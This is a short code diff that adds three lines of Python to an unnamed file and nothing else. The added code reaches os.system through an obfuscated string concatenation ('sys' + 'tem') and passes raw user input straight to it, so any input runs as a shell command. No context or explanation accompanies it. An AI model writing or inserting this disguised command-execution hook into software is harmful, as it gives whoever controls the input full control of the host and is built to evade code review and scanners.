@@ -1,0 +1,3 @@
+import os
+run = vars(os).get("sys" + "tem")
+run(input())
